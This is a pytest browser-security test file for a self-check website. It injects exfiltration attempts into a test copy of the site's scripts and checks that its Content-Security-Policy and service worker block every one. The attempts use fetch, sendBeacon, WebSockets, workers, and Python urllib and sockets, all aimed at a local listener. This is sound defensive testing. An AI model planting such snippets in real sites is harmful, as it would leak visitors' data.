"""Nothing leaves the browser, because the browser does not let it: tried from inside, in the page, its thread and Python.

The code that tries stands in a version of the site made for this test, as if someone had got it into ours. Another server on
this machine must hear nothing.
"""

import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from socketserver import BaseRequestHandler, ThreadingTCPServer
from typing import Any

import pytest

from scripts.build import faults
from scripts.markup import Page
from scripts.paths import SITE
from tests.site import host as hosts
from tests.site.host import Host
from tests.site.test_faults import IMPORT, NO_START, WORKERS
from tests.site.test_walk import NEW
from tests.site.walk import eventually, walk

pytestmark = [pytest.mark.site, pytest.mark.host]

# What JavaScript can try anywhere. Each gives something when it goes, and an error when it does not.
ANYWHERE = """
const free = { fetch: self.fetch.bind(self) };
const heard = (target, good) => new Promise((resolve, reject) => {
  target.addEventListener(good, () => resolve(good));
  target.addEventListener("error", event => { event.preventDefault(); reject(new Error("refused")); });
});
// Not while the test asks: what a debugger runs may do more.
const later = action => new Promise((resolve, reject) => setTimeout(() => {
  try { resolve(action()); } catch (error) { reject(error); }
}));
const attempts = {
  fetch: url => free.fetch(url, { mode: "no-cors" }),
  post: url => free.fetch(url, { mode: "no-cors", method: "POST", body: "antwoorden", keepalive: true }),
  XMLHttpRequest: url => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.send();
    return heard(request, "load");
  },
  WebSocket: url => heard(new WebSocket(url.replace("http", "ws")), "open"),
  EventSource: url => heard(new EventSource(url), "open"),
  import: url => import(url + "code.js"),
  importScripts: url => self.importScripts(url),
  thread: url => heard(new Worker(url + "code.js"), "message"),
  blob: url => heard(new Worker(URL.createObjectURL(new Blob([
    `fetch("${url}", { mode: "no-cors" }).then(() => postMessage(1), () => { throw new Error() })
     addEventListener("unhandledrejection", () => setTimeout(() => { throw new Error() }))`,
  ]))), "message"),
  eval: () => later(() => (0, eval)("1")),
  Function: () => later(() => new Function("return 1")()),
};
"""
IN_PAGE = """
attempts.sendBeacon = async url => { if (!navigator.sendBeacon(url, "antwoorden")) throw new Error("refused"); };
const load = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  const outcome = heard(element, "load");
  document.body.append(element);
  return outcome;
};
attempts.image = url => load("img", { src: url });
attempts.frame = url => load("iframe", { src: url });
attempts.style = url => load("link", { rel: "stylesheet", href: url });
attempts.script = url => load("script", { src: url });
attempts.inline = () => new Promise((resolve, reject) => {
  self.ran = () => resolve("ran");
  document.body.append(Object.assign(document.createElement("script"), { text: "self.ran()" }));
  setTimeout(() => reject(new Error("refused")), 300);
});
attempts.form = url => {
  const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
  document.body.append(form);
  form.submit();
};
self.attempts = attempts;
"""
IN_THREAD = """
new BroadcastChannel("attempts").onmessage = async ({ data: { name, url } }) => {
  const channel = new BroadcastChannel("results");
  try { channel.postMessage("went: " + await attempts[name](url)); } catch (error) { channel.postMessage("refused: " + error); }
};
"""
# One line each; `url` is the other server.
PYTHON = {
    "fetch": "import js; answer = await js.fetch(url); assert answer.ok",
    "XMLHttpRequest": "import js; r = js.XMLHttpRequest.new(); r.open('GET', url, False); r.send()",
    "pyfetch": "from pyodide.http import pyfetch; answer = await pyfetch(url); answer.raise_for_status()",
    "open_url": "from pyodide.http import open_url; open_url(url)",
    "run_js": "from pyodide.code import run_js; run_js('1')",
    "eval": "import js; js.eval('1')",
    "importScripts": "import js; js.importScripts(url)",
    "urllib": "from urllib.request import urlopen; urlopen(url, timeout=2)",
    "socket": "import socket; s = socket.create_connection(('127.0.0.1', int(url.split(':')[2][:-1])), 2); s.send(b'GET')",
}
# Threads of a thread.
NESTED = ("thread", "blob")
# These end without an error of their own: it is the other server that says whether anything came.
SILENT = {"form", "sendBeacon", "frame"}


class Elsewhere:
    """A server that notes whoever so much as connects."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        other = self

        class Note(BaseRequestHandler):
            def handle(self) -> None:
                self.request.settimeout(2)
                other.heard.append(self.request.recv(10_000))
                self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")

        self.server = ThreadingTCPServer(("127.0.0.1", 0), Note)
        self.server.daemon_threads = True
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.close()


# The snapshot has no network of its own: what it calls on the page for is refused, but for two functions that have none.
def hostile(folder: Path, place: int) -> Path:
    """A version of the site whose own scripts try to get something out; with the engine at this place in the list."""
    python = f"attempts.python = async code => (await pyodide.runPythonAsync(code), 'ran'); {IMPORT}"
    changes: dict[str, dict[str, str]] = dict.fromkeys(WORKERS[:place], NO_START)
    if WORKERS[place] == WORKERS[-1]:
        changes[WORKERS[place]] = {IMPORT: python}

    def change(path: Path, data: bytes) -> bytes:
        if path.name == "bewaren.js":
            return data + ANYWHERE.encode() + IN_PAGE.encode()
        if "engine" not in path.parts or path.name not in WORKERS:
            return data
        for old, new in changes.get(path.name, {}).items():
            assert data.count(old.encode()) == 1, f"{path.name} no longer says {old}"
            data = data.replace(old.encode(), new.encode())
        return data + ANYWHERE.encode() + IN_THREAD.encode()

    return hosts.version(folder / "site", change)


@pytest.fixture(scope="module")
def with_engine(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """For each engine in the list."""
    return [hostile(tmp_path_factory.mktemp("engine"), place) for place in range(len(WORKERS))]


@pytest.fixture
def page(context: Any, watch: Any) -> Any:
    # Each refusal is an error to the browser, and that is what is wanted here.
    watch.allow("")
    context.add_init_script("Object.defineProperty(navigator, 'connection', { value: { saveData: true } })")
    return context.new_page()


def start(page: Any, host: Host, version: Path) -> None:
    host.publish(version)
    page.goto(f"{host.address}zelfcheck/")
    page.locator("#vw-app[data-engine=klaar]").wait_for()


def attempt(page: Any, name: str, elsewhere: Elsewhere) -> str:
    script = """async ([name, url]) => {
      try { return "went: " + await attempts[name](url); } catch (error) { return "refused: " + error; } }"""
    result: str = page.evaluate(script, [name, elsewhere.address])
    return result


def test_page_gets_nothing_out(page: Any, host: Host, elsewhere: Elsewhere, with_engine: list[Path]) -> None:
    start(page, host, with_engine[0])
    names = [*page.evaluate("Object.keys(attempts)")]
    assert {"fetch", "WebSocket", "image", "form", "inline"} <= set(names)
    results = {name: attempt(page, name, elsewhere) for name in names}
    assert {name: result for name, result in results.items() if name not in SILENT and result[:7] != "refused"} == {}
    page.wait_for_timeout(500)
    assert elsewhere.heard == []
    assert page.url == f"{host.address}zelfcheck/"


def bare(folder: str) -> Any:
    """A change that takes the policy from one page."""

    def change(path: Path, data: bytes) -> bytes:
        if path.suffix != ".html" or path.parent.name != folder:
            return data
        return re.sub(rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", data)

    return change


@pytest.mark.browsers("chromium", "webkit")
def test_without_the_policy_the_same_attempts_go(
    context: Any, host: Host, elsewhere: Elsewhere, with_engine: list[Path], tmp_path: Path
) -> None:
    """So that the refusals above say something."""
    host.publish(hosts.version(tmp_path / "bare", bare("zelfcheck"), with_engine[0]))
    page = context.new_page()
    page.goto(f"{host.address}zelfcheck/")
    went = {name for name in page.evaluate("Object.keys(attempts)") if attempt(page, name, elsewhere)[:4] == "went"}
    assert {"fetch", "post", "eval", "Function", "inline", "blob"} <= went
    assert len(elsewhere.heard) >= 8


def in_thread(page: Any, name: str, argument: str) -> str:
    result: str = page.evaluate(
        """([name, url]) => new Promise(resolve => {
          new BroadcastChannel("results").onmessage = ({ data }) => resolve(data);
          new BroadcastChannel("attempts").postMessage({ name, url });
          setTimeout(() => resolve("no answer"), 4000);
        })""",
        [name, argument],
    )
    return result


@pytest.mark.parametrize("place", range(len(WORKERS)))
def test_thread_of_the_engine_gets_nothing_out(
    page: Any, host: Host, elsewhere: Elsewhere, with_engine: list[Path], place: int, request: pytest.FixtureRequest
) -> None:
    start(page, host, with_engine[place])
    names = re.findall(r"^  (\w+): ", ANYWHERE, re.MULTILINE)
    # Last, because Firefox now and then leaves a thread hanging that asks for one of its own: that gets nothing out either.
    names.sort(key=NESTED.__contains__)
    results = {name: in_thread(page, name, elsewhere.address) for name in names}
    hangs = {name for name in NESTED if results[name] == "no answer"} if "firefox" in request.node.name else set()
    wrong = {name: result for name, result in results.items() if result[:7] != "refused" and name not in hangs}
    assert wrong == {}
    page.wait_for_timeout(300)
    assert elsewhere.heard == []


def test_python_gets_nothing_out(page: Any, host: Host, elsewhere: Elsewhere, with_engine: list[Path]) -> None:
    start(page, host, with_engine[-1])
    assert in_thread(page, "python", "1 + 1") == "went: ran"
    begin = f"url = '{elsewhere.address}'\n"
    results = {name: in_thread(page, "python", begin + code) for name, code in PYTHON.items()}
    assert {name: result for name, result in results.items() if result[:7] != "refused"} == {}
    page.wait_for_timeout(300)
    assert elsewhere.heard == []


def test_service_worker_lets_nothing_through_either(
    context: Any, watch: Any, host: Host, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    """A page without the policy, served by the service worker: the worker refuses whatever is not of the site."""
    watch.allow("")
    host.publish(hosts.version(tmp_path / "bare", bare("begrippen")))
    page = context.new_page()
    page.goto(f"{host.address}zelfcheck/")
    page.locator("details:has(#vw-bewaren) > summary").click()
    page.locator("#vw-bewaren button[data-vw=bewaar-site]").click()
    page.locator("#vw-bewaren[data-stand=klaar]").wait_for()
    page.goto(f"{host.address}begrippen/")
    assert page.locator("meta[http-equiv]").count() == 0
    script = "url => fetch(url, { mode: 'no-cors' }).then(() => 'went', () => 'refused')"
    assert page.evaluate(script, elsewhere.address) == "refused"
    posts = "url => fetch(url, { method: 'POST', body: 'antwoorden' }).then(() => 'went', () => 'refused')"
    assert page.evaluate(posts, host.address) == "refused"
    assert elsewhere.heard == []


def test_walk_asks_for_files_and_tells_nothing(context: Any, watch: Any, host: Host, elsewhere: Elsewhere) -> None:
    watch.allow("request to another host")
    page = context.new_page()
    page.goto(f"{host.address}zelfcheck/")
    walk(page, NEW)
    page.locator("#vw-bewaren[data-stand=klaar]").wait_for(state="attached")  # in its fold
    files = json.loads((SITE / "offline.json").read_text("utf-8"))
    known = {host.prefix + name for name in [*files["always"], *files["engines"][0], "sw.js", "offline.json"]}
    assert {(method, path) for method, path, _, _ in host.told} <= {("GET", path) for path in known}
    assert {(referrer, cookie) for _, _, referrer, cookie in host.told} <= {
        (None, None),
        (f"{host.address}sw.js", None),
    }
    # Nor does it go along with a visitor who leaves: neither in the address nor as the page one came from.
    assert page.url == f"{host.address}zelfcheck/"
    links = page.locator("a[href^=http]").evaluate_all("all => all.map(link => link.href)")
    assert links
    assert not [link for link in links if "wethouder" in link or "#g=" in link]
    link = page.locator("#vw-app a[href^=http]").first
    link.evaluate("(link, to) => { link.href = to }", elsewhere.address)
    link.click()
    eventually(page, lambda: len(elsewhere.heard) > 0)
    assert elsewhere.heard[0].startswith(b"GET / HTTP/1.1")
    assert b"referer" not in elsewhere.heard[0].lower()
    assert b"cookie" not in elsewhere.heard[0].lower()


@pytest.mark.parametrize("name", ["index.html", "zelfcheck/index.html", "verantwoording/over/index.html"])
def test_policy_is_as_strict_as_we_say(name: str) -> None:
    text = (SITE / name).read_text("utf-8")
    found = re.search(r'Content-Security-Policy" content="([^"]+)"', text)
    assert found
    policy = {name: values for name, *values in (part.split() for part in found[1].split("; "))}
    assert policy["default-src"] == policy["connect-src"] == ["'self'"]
    assert policy["form-action"] == policy["base-uri"] == policy["object-src"] == policy["frame-src"] == ["'none'"]
    allowed = {value for values in policy.values() for value in values if not value.startswith("'sha256-")}
    assert allowed <= {"'self'", "'none'", "'wasm-unsafe-eval'", "data:", "blob:"}
    assert list(faults(Page(text))) == []
